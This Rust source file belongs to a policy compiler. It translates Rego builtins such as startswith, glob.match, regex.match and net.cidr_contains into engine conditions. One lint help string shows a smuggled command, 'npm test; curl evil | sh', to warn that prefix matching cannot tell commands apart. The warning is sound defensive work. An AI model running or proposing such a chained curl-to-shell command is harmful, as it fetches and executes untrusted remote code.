//! Builtins: those that ask about a string, a list or an address, and those that can be worked out when compiling.

use std::net::IpAddr;

use polity_runtime::value::{Automaton, IpNet};
use regorus::unstable::{Expr, Literal, Ref, Span};

use super::lower::{Env, Lowerer, Out, Then};
use super::module;
use super::values::{Change, Const, Gathered, Num, Place, Val};
use crate::diag::Diagnostic;
use crate::diag::codes::condition::{INVALID_CONSTANT, LIKE_ON_COMMAND};
use crate::ir::{Condition, Constant, Function, Op, PatternPart, Term};
use crate::lower::condition::{NO, YES, not};
use crate::lower::constants::fold_char;
use crate::lower::types::{Kind, Ty};

/// Builtins that come to true or false.
const PREDICATES: [&str; 15] = [
    "contains",
    "endswith",
    "glob.match",
    "is_array",
    "is_boolean",
    "is_null",
    "is_number",
    "is_object",
    "is_set",
    "is_string",
    "net.cidr_contains",
    "regex.match",
    "strings.any_prefix_match",
    "strings.any_suffix_match",
    "startswith",
];

/// Where a text must stand in another.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Where {
    Start,
    End,
    Anywhere,
}

impl Where {
    pub(super) fn holds(self, text: &str, part: &str) -> bool {
        match self {
            Self::Start => text.starts_with(part),
            Self::End => text.ends_with(part),
            Self::Anywhere => text.contains(part),
        }
    }
}

impl<'a> Lowerer<'a> {
    /// Whether a call is of a builtin that comes to true or false.
    pub(super) fn is_predicate(&self, fcn: &Expr, _: &Env) -> bool {
        let name = module::path(fcn).map(|path| path.join("."));
        name.is_some_and(|name| !self.parsed.index.groups.contains_key(&name) && PREDICATES.contains(&name.as_str()))
    }

    /// What is made of the condition that such a call is.
    pub(super) fn predicate(
        &mut self,
        fcn: &Expr,
        params: &[Ref<Expr>],
        span: &Span,
        env: &Env,
        k: &mut dyn FnMut(&mut Self, Condition) -> Out<Condition>,
    ) -> Out<Condition> {
        let name = module::path(fcn).unwrap_or_default().join(".");
        if let Some(text) = params
            .first()
            .filter(|_| matches!(name.as_str(), "startswith" | "endswith" | "contains"))
        {
            self.lint_command(&name, text, span);
        }
        self.items(params, env, Vec::new(), &mut |this, args| {
            let args: Vec<Val> = args.into_iter().map(Val::plain).collect();
            let condition = this.ask(&name, &args, span)?;
            k(this, condition)
        })
    }

    fn ask(&mut self, name: &str, args: &[Val], span: &Span) -> Out<Condition> {
        let at = match name {
            "startswith" | "strings.any_prefix_match" => Where::Start,
            "endswith" | "strings.any_suffix_match" => Where::End,
            _ => Where::Anywhere,
        };
        match (name, args) {
            ("startswith" | "endswith" | "contains", [text, part]) => self.part(span, at, text, part),
            ("strings.any_prefix_match" | "strings.any_suffix_match", [text, parts]) => {
                let all = |val: &Val| match val {
                    Val::Const(Const::Array(items)) => items.iter().cloned().map(Val::Const).collect(),
                    Val::Const(Const::Set(items)) => items.iter().cloned().map(Val::Const).collect(),
                    Val::Array(items) | Val::Set(items) => items.clone(),
                    other => vec![other.clone()],
                };
                let mut any = NO;
                for text in all(text) {
                    for part in all(parts) {
                        let one = self.part(span, at, &text, &part)?;
                        any = self.either(any, one)?;
                    }
                }
                Ok(any)
            }
            ("glob.match", [Val::Const(Const::Str(pattern)), delimiters, text]) => {
                self.glob(span, pattern, delimiters, text)
            }
            ("regex.match", [Val::Const(Const::Str(pattern)), text]) => self.regex(span, pattern, text),
            ("net.cidr_contains", [Val::Const(Const::Str(range)), Val::Term(address, Ty::Ip)]) => {
                match network(range) {
                    Some(net) if range.contains('/') => {
                        self.test(Op::IsInRange, address.clone(), Term::Constant(Constant::Ip(net)))
                    }
                    _ => {
                        let message = format!("`{range}` is not a range of addresses");
                        self.wrong(
                            &INVALID_CONSTANT,
                            span,
                            (message, ""),
                            "write `10.0.0.0/8` or `fc00::/7`",
                        )
                    }
                }
            }
            (_, [val]) if name.starts_with("is_") => {
                let Some(kind) = val.kind() else {
                    return self.outside(span, "the type of this value");
                };
                let sound = self.sound(val)?;
                self.both(
                    sound,
                    if name.strip_prefix("is_") == Some(kind) {
                        YES
                    } else {
                        NO
                    },
                )
            }
            _ => self.outside(span, &format!("`{name}` of what only the call knows")),
        }
    }

    /// A call of a builtin that gives a value.
    pub(super) fn builtin(
        &mut self,
        name: &str,
        params: &[Ref<Expr>],
        span: &Span,
        env: &Env,
        k: Then<'_, 'a>,
    ) -> Out<Condition> {
        match (name, params) {
            ("count", [of]) => self.value(of, env, &mut |this, val| {
                if let Val::Gathered(gathered) = &val
                    && let Some(list) = copied(gathered)
                {
                    return this.copies(list, gathered, of.span(), k);
                }
                let count = this.count(&val, of.span())?;
                k(this, count)
            }),
            ("object.get", [of, key, default]) => {
                self.items(&[of.clone(), key.clone()], env, Vec::new(), &mut |this, args| {
                    let args: Vec<Val> = args.into_iter().map(Val::plain).collect();
                    let [of, key] = args.as_slice() else { return Ok(NO) };
                    match (of, key) {
                        (Val::Place(Place::Args | Place::Tags | Place::Record(_)), Val::Const(Const::Str(_)))
                        | (Val::Const(Const::Object(_)), Val::Const(_) | Val::Term(..)) => {}
                        _ => return this.outside(span, "`object.get` of this value"),
                    }
                    let there = this.at(of, key, span, &mut |_, _| Ok(YES))?;
                    let found = match there {
                        NO => NO,
                        // Another action may lack it: who asks for the default asks for something.
                        YES => {
                            let spare = module::constant(default).map(Val::Const);
                            this.met.spare(spare.and_then(|val| val.kind()));
                            let found = this.at(of, key, span, k);
                            this.met.spared();
                            found?
                        }
                        _ => this.at(of, key, span, k)?,
                    };
                    let otherwise = if there == YES { NO } else { this.value(default, env, k)? };
                    this.choose(there, found, otherwise)
                })
            }
            _ => self.items(params, env, Vec::new(), &mut |this, args| {
                let args: Vec<Val> = args.into_iter().map(Val::plain).collect();
                let val = this.made(name, &args, span)?;
                match &val {
                    Val::Text => {
                        // A message is there only where all that it speaks of is.
                        let sound = this.sound(&Val::Array(args.clone()))?;
                        this.when(sound, &mut |this| k(this, Val::Text))
                    }
                    _ => k(this, val),
                }
            }),
        }
    }

    fn made(&mut self, name: &str, args: &[Val], span: &Span) -> Out<Val> {
        let text = |text: String| Ok(Val::Const(Const::Str(text)));
        match (name, args) {
            ("lower", [Val::Const(Const::Str(value))]) => text(value.to_lowercase()),
            ("upper", [Val::Const(Const::Str(value))]) => text(value.to_uppercase()),
            // Lower-cased before it is compared.
            ("lower", [val @ Val::Term(_, Ty::Str(Kind::Folded | Kind::Host))]) => Ok(val.clone()),
            ("lower", [Val::Term(term, Ty::Str(_))]) => Ok(Val::Changed(Change::Lower, term.clone())),
            ("upper", [Val::Term(term, Ty::Str(_))]) => Ok(Val::Changed(Change::Upper, term.clone())),
            ("trim_space", [Val::Term(term, Ty::Str(_))]) => Ok(Val::Changed(Change::Trim, term.clone())),
            ("trim_space", [Val::Const(Const::Str(value))]) => text(value.trim().to_owned()),
            ("trim_prefix", [Val::Const(Const::Str(value)), Val::Const(Const::Str(part))]) => {
                text(value.strip_prefix(part.as_str()).unwrap_or(value).to_owned())
            }
            ("trim_suffix", [Val::Const(Const::Str(value)), Val::Const(Const::Str(part))]) => {
                text(value.strip_suffix(part.as_str()).unwrap_or(value).to_owned())
            }
            ("time.parse_rfc3339_ns", [Val::Moment(moment)]) => Ok(Val::Nanos(moment.clone())),
            ("time.parse_rfc3339_ns", [Val::Const(Const::Str(value))]) => {
                let nanos = polity_runtime::wire::Timestamp::parse(value)
                    .and_then(|moment| moment.millis().checked_mul(1_000_000));
                match nanos {
                    Some(nanos) => Ok(Val::Const(Const::Num(Num::Int(nanos)))),
                    None => self.outside(span, "a moment that is not written as `2026-12-01T00:00:00Z`"),
                }
            }
            ("time.clock", [Val::Nanos(moment)]) => Ok(Val::Array(clock(moment))),
            ("sprintf", [Val::Const(Const::Str(format)), Val::Array(items)]) if verbs(format) == Some(items.len()) => {
                Ok(Val::Text)
            }
            ("sprintf", [Val::Const(Const::Str(format)), Val::Const(Const::Array(items))])
                if verbs(format) == Some(items.len()) =>
            {
                Ok(Val::Text)
            }
            ("array.concat", [Val::Const(Const::Array(a)), Val::Const(Const::Array(b))]) => {
                Ok(Val::Const(Const::Array([a.as_slice(), b].concat())))
            }
            ("object.keys", [Val::Const(Const::Object(fields))]) => {
                Ok(Val::Const(Const::Set(fields.keys().cloned().collect())))
            }
            ("union" | "intersection", [Val::Const(Const::Set(sets))]) => {
                let sets = sets.iter().map(|set| match set {
                    Const::Set(items) => Some(items.clone()),
                    _ => None,
                });
                let joined = sets.reduce(|a, b| {
                    let (a, b) = (a?, b?);
                    Some(if name == "union" { &a | &b } else { &a & &b })
                });
                match joined {
                    Some(Some(items)) => Ok(Val::Const(Const::Set(items))),
                    _ => self.outside(span, &format!("`{name}` of these sets")),
                }
            }
            // A message, of which nothing more is known.
            ("concat", [Val::Const(Const::Str(_)), Val::Array(items)]) if items.iter().all(is_text) => Ok(Val::Text),
            (
                "concat",
                [
                    Val::Const(Const::Str(between)),
                    Val::Const(of @ (Const::Array(_) | Const::Set(_))),
                ],
            ) => {
                let items: Vec<&Const> = match of {
                    Const::Array(items) => items.iter().collect(),
                    Const::Set(items) => items.iter().collect(),
                    _ => Vec::new(),
                };
                let mut parts = Vec::new();
                for item in &items {
                    if let Const::Str(part) = item {
                        parts.push(part.as_str());
                    }
                }
                match (parts.len() == items.len()).then_some(parts) {
                    Some(parts) => text(parts.join(between)),
                    None => self.outside(span, "`concat` of anything but strings"),
                }
            }
            _ => self.outside(span, &format!("`{name}`")),
        }
    }

    /// How many elements a comprehension has that only copies a list: as many as the list, and none where that is
    /// undefined.
    fn copies(&mut self, list: &Expr, copy: &Gathered, span: &Span, k: Then<'_, 'a>) -> Out<Condition> {
        let mut found = Vec::new();
        let there = self.value(list, &copy.env, &mut |_, val| {
            found.push(val);
            Ok(YES)
        })?;
        // Where there may be several lists, the comprehension is all of them together.
        let counted = match found.as_slice() {
            [list @ Val::Term(_, Ty::Set(_))] => self.count(list, span)?,
            _ => {
                let count = self.count(&Val::Gathered(Box::new(copy.clone())), span)?;
                return k(self, count);
            }
        };
        let counted = if there == NO { NO } else { k(self, counted)? };
        let none = match there {
            YES => NO,
            _ => k(self, Val::Const(Const::Num(Num::Int(0))))?,
        };
        self.choose(there, counted, none)
    }

    pub(super) fn count(&mut self, val: &Val, span: &Span) -> Out<Val> {
        let number = |many: usize| {
            Ok(Val::Const(Const::Num(Num::Int(
                i64::try_from(many).unwrap_or(i64::MAX),
            ))))
        };
        match val {
            Val::Const(Const::Array(items)) => number(items.len()),
            Val::Const(Const::Set(items)) => number(items.len()),
            Val::Const(Const::Object(fields)) => number(fields.len()),
            Val::Const(Const::Str(text)) => number(text.encode_utf16().count()),
            Val::Named(_, text) => number(text.encode_utf16().count()),
            Val::Resources => number(self.action.resources.len()),
            // As the engine is handed them, lists of a call hold each element once.
            Val::Term(set @ (Term::Slot(_) | Term::Holding), Ty::Set(_)) => {
                Ok(Val::Term(Term::Apply(Function::Count, vec![set.clone()]), Ty::Int))
            }
            // How many is beyond a condition; whether there is one is not.
            Val::Partial(_) | Val::Gathered(_) | Val::Joined(..) => Ok(Val::Count(not(self.any(span, val)?))),
            other => self.outside(span, &format!("`count` of {}", other.describe())),
        }
    }

    /// Whether a text has a part at its start, at its end or anywhere.
    fn part(&mut self, span: &Span, at: Where, text: &Val, part: &Val) -> Out<Condition> {
        match (text, part) {
            (Val::Const(Const::Str(text)), Val::Const(Const::Str(part))) => {
                Ok(if at.holds(text, part) { YES } else { NO })
            }
            (Val::Term(term, Ty::Str(kind)), Val::Const(Const::Str(part))) => {
                let mut pattern = Vec::new();
                if at != Where::Start {
                    pattern.push(PatternPart::Any);
                }
                pattern.extend(self.letters(span, part, kind)?);
                if at != Where::End {
                    pattern.push(PatternPart::Any);
                }
                self.test(Op::Like, term.clone(), Term::Pattern(pattern))
            }
            (Val::Changed(change, term), Val::Const(Const::Str(part))) => {
                self.changed(span, (*change, term), Some(at), part)
            }
            (Val::Changed(..), _) | (_, Val::Changed(..)) => {
                self.outside(span, "a part of a text that only the call knows")
            }
            (Val::Term(_, Ty::Str(_)) | Val::Const(Const::Str(_)), Val::Term(_, Ty::Str(_))) => {
                self.outside(span, "a part of a text that only the call knows")
            }
            (Val::Moment(_) | Val::Text | Val::Term(_, Ty::Ip), _) => self.outside(span, "the letters of this value"),
            (text, part) => {
                let part_is_text = matches!(part, Val::Const(Const::Str(_)));
                let (found, other) = if part_is_text { (text, part) } else { (part, text) };
                self.mismatch(span, found, other)
            }
        }
    }

    /// A part of a pattern, as values of a kind are spelled.
    fn letters(&mut self, span: &Span, text: &str, kind: &Kind) -> Out<Vec<PatternPart>> {
        let never = match kind {
            Kind::Host if !text.is_ascii() => Some("a host is compared in its ASCII form (`xn--...`)"),
            Kind::Path if text.contains("//") || text.split('/').any(|part| part == "." || part == "..") => {
                Some("a path is compared without `.`, `..` and empty segments")
            }
            _ => None,
        };
        if let Some(why) = never {
            let message = format!("`{text}` can never match: {why}");
            return self.wrong(&INVALID_CONSTANT, span, (message, ""), "");
        }
        let letter = |letter: char| PatternPart::Literal(if kind.folds() { fold_char(letter) } else { letter });
        Ok(text.chars().map(letter).collect())
    }

    /// `glob.match`: the patterns that mean the same to every implementation, with one `*` where that must not cross a
    /// delimiter.
    fn glob(&mut self, span: &Span, pattern: &str, delimiters: &Val, text: &Val) -> Out<Condition> {
        let (term, kind) = match text {
            Val::Term(term, Ty::Str(kind)) => (term.clone(), kind.clone()),
            _ => return self.outside(span, "`glob.match` of this value"),
        };
        let marks: Option<Vec<char>> = match delimiters {
            Val::Const(Const::Null) => None,
            Val::Const(Const::Array(items)) => {
                let mut marks = Vec::new();
                for item in items {
                    match item {
                        Const::Str(mark) if mark == "/" || mark == "." => marks.extend(mark.chars()),
                        _ => return self.outside(span, "a delimiter other than `/` and `.`"),
                    }
                }
                // So says OPA.
                if marks.is_empty() {
                    marks.push('.');
                }
                Some(marks)
            }
            _ => return self.outside(span, "`glob.match` with these delimiters"),
        };
        if pattern.contains(['?', '[', ']', '{', '}', '\\', '!', '\0']) {
            return self.outside(span, "a glob with more than `*`");
        }
        let mut parts = Vec::new();
        let mut pieces = pattern.split('*');
        let first = pieces.next().unwrap_or("");
        parts.extend(self.letters(span, first, &kind)?);
        for piece in pieces {
            parts.push(PatternPart::Any);
            parts.extend(self.letters(span, piece, &kind)?);
        }
        let stars = parts.iter().filter(|part| **part == PatternPart::Any).count();
        let literal = |parts: &[PatternPart]| parts.iter().all(|part| *part != PatternPart::Any);
        match (marks, stars) {
            (_, 0) | (None, _) => {
                parts.dedup_by(|a, b| *a == PatternPart::Any && *b == PatternPart::Any);
                if literal(&parts) && kind == Kind::Plain {
                    return self.test(Op::Equal, term, Term::Constant(Constant::String(pattern.to_owned())));
                }
                self.test(Op::Like, term, Term::Pattern(parts))
            }
            (Some(marks), 1) => {
                let at = parts.iter().position(|part| *part == PatternPart::Any).unwrap_or(0);
                let mut whole = self.test(Op::Like, term.clone(), Term::Pattern(parts.clone()))?;
                for mark in marks {
                    // What the star stands for has the mark in it just where this matches.
                    let mut crossed = parts.clone();
                    crossed.splice(
                        at..=at,
                        [PatternPart::Any, PatternPart::Literal(mark), PatternPart::Any],
                    );
                    let crossed = self.test(Op::Like, term.clone(), Term::Pattern(crossed))?;
                    whole = self.both(whole, not(crossed))?;
                }
                Ok(whole)
            }
            (Some(marks), 2) => {
                // All below: what stands before the two stars ends in a delimiter, and nothing stands after them.
                let ends = pattern.strip_suffix("**").filter(|before| !before.contains('*'));
                match ends.and_then(|before| before.chars().last()) {
                    Some(last) if marks.contains(&last) => {
                        parts.pop();
                        self.test(Op::Like, term, Term::Pattern(parts))
                    }
                    _ => self.outside(span, "a glob with several stars"),
                }
            }
            _ => self.outside(span, "a glob with several stars"),
        }
    }

    /// `regex.match` of an expression that is known.
    fn regex(&mut self, span: &Span, pattern: &str, text: &Val) -> Out<Condition> {
        match text {
            Val::Const(Const::Str(text)) => {
                let words = self.automaton(span, pattern, pattern)?;
                let takes = Automaton::new(&words).and_then(|automaton| automaton.takes(text));
                Ok(if takes == Some(true) { YES } else { NO })
            }
            Val::Term(term, Ty::Str(kind)) if kind.folds() => self.matches_folded(span, term, pattern),
            Val::Term(term, Ty::Str(_)) => self.matches(span, term, pattern),
            other => self.outside(span, &format!("`regex.match` of {}", other.describe())),
        }
    }

    fn lint_command(&mut self, name: &str, text: &Expr, span: &Span) {
        let Some(argument) = module::path(text).and_then(|path| path.last().cloned()) else {
            return;
        };
        if crate::lower::cedar::is_command(&argument) {
            let message = format!("`{name}` on `{argument}` cannot tell one command from several");
            let found = Diagnostic::new(&LIKE_ON_COMMAND, message, self.span(span), "matches as text");
            let help = "`npm test` also begins `npm test; curl evil | sh`: give the tool an action for each thing it may do, or list whole commands";
            self.findings.push(found.with_help(help));
        }
    }
}

/// The list that a comprehension copies: `{x | some x in list}`.
fn copied(gathered: &Gathered) -> Option<&Expr> {
    let [stmt] = gathered.query.stmts.as_slice() else {
        return None;
    };
    match (&stmt.literal, gathered.term.as_ref()) {
        (
            Literal::SomeIn {
                key: None,
                value,
                collection,
                ..
            },
            Expr::Var { span: term, .. },
        ) if stmt.with_mods.is_empty() => match value.as_ref() {
            Expr::Var { span: bound, .. } if bound.text() == term.text() && bound.text() != "_" => Some(collection),
            _ => None,
        },
        _ => None,
    }
}

/// How many arguments a format of `sprintf` takes. With as many it gives a text whatever they are, as OPA has it; the
/// engine fails at some, such as `%q`.
fn verbs(format: &str) -> Option<usize> {
    let mut verbs = 0;
    let mut letters = format.chars();
    while let Some(letter) = letters.next() {
        if letter != '%' {
            continue;
        }
        match letters.find(|letter| !matches!(letter, '0'..='9' | '.' | '+' | '-' | '#' | ' '))? {
            '%' => {}
            verb if verb.is_ascii_alphabetic() => verbs += 1,
            _ => return None,
        }
    }
    Some(verbs)
}

/// Whether a value is a text to every function that asks.
fn is_text(val: &Val) -> bool {
    matches!(
        val,
        Val::Const(Const::Str(_))
            | Val::Named(..)
            | Val::Text
            | Val::Moment(_)
            | Val::Changed(..)
            | Val::Term(_, Ty::Str(_) | Ty::Ip)
    )
}

/// Hours, minutes and seconds of a moment.
fn clock(moment: &Term) -> Vec<Val> {
    let time = Term::Apply(Function::ToTime, vec![moment.clone()]);
    let whole = |function| Term::Apply(function, vec![time.clone()]);
    let rest = |of: Function, larger: Function| {
        let larger = Term::Apply(
            Function::Multiply,
            vec![whole(larger), Term::Constant(Constant::Int(60))],
        );
        Term::Apply(Function::Subtract, vec![whole(of), larger])
    };
    let parts = [
        whole(Function::ToHours),
        rest(Function::ToMinutes, Function::ToHours),
        rest(Function::ToSeconds, Function::ToMinutes),
    ];
    parts.into_iter().map(|part| Val::Term(part, Ty::Int)).collect()
}

/// An address, or a range of them.
pub(super) fn network(text: &str) -> Option<IpNet> {
    let (address, prefix) = match text.split_once('/') {
        Some((address, prefix)) => (address, Some(prefix.parse::<u8>().ok()?)),
        None => (text, None),
    };
    let address: IpAddr = address.parse().ok()?;
    let whole = if address.is_ipv4() { 32 } else { 128 };
    let prefix = prefix.unwrap_or(whole);
    (prefix <= whole).then_some(IpNet { address, prefix })
}

/// As the input spells it.
pub(super) fn spelled(net: &IpNet) -> String {
    let whole = if net.address.is_ipv4() { 32 } else { 128 };
    match net.prefix == whole {
        true => net.address.to_string(),
        false => format!("{}/{}", net.address, net.prefix),
    }
}
